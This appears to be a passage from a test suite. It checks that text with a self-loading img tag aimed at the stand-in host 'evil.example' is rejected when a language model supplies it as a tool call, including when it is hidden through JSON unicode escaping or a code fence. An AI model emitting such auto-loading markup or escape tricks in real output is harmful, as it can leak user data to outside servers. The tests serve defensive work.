	it.each(TEXTS)(
		'is not taken by %s from a language model or under a policy where it loads something by itself',
		async (step, label, given) => {
			const parameters = given();
			for (const options of [
				{ asTool: true },
				{ credentialData: { whatMayBeDeleted: 'nothing' } },
			]) {
				expect((await failureOf(runStep(step, parameters, options))).message).toContain(
					`${label}: loads something from another server by itself: img`,
				);
			}
			expect(arrived().filter((one) => !one.startsWith('GET '))).toEqual([]);
		},
	);

	it('is not taken from a language model either that writes it as JSON can hide it', async () => {
		const body = JSON.stringify({ name: EVIL }).replaceAll('<', '\\u003c');
		const call = { method: 'PUT', endpoint: `/requests/${draft().id}` };
		for (const written of [body, `\`\`\`json\n${body}\n\`\`\``]) {
			const run = runStep('advanced.apiCall', { ...call, body: written }, { asTool: true });
			expect((await failureOf(run)).message).toContain(
				'Body: loads something from another server by itself: img',
			);
		}
		expect(arrived().filter((one) => !one.startsWith('GET '))).toEqual([]);
	});

	it.each(TEXTS)('is taken by %s from a workflow that nothing holds', async (step, _, given) => {
		await runStep(step, given());
		expect(JSON.stringify(provider().requests.all.at(-1)?.body)).toContain('evil.example');
	});
});
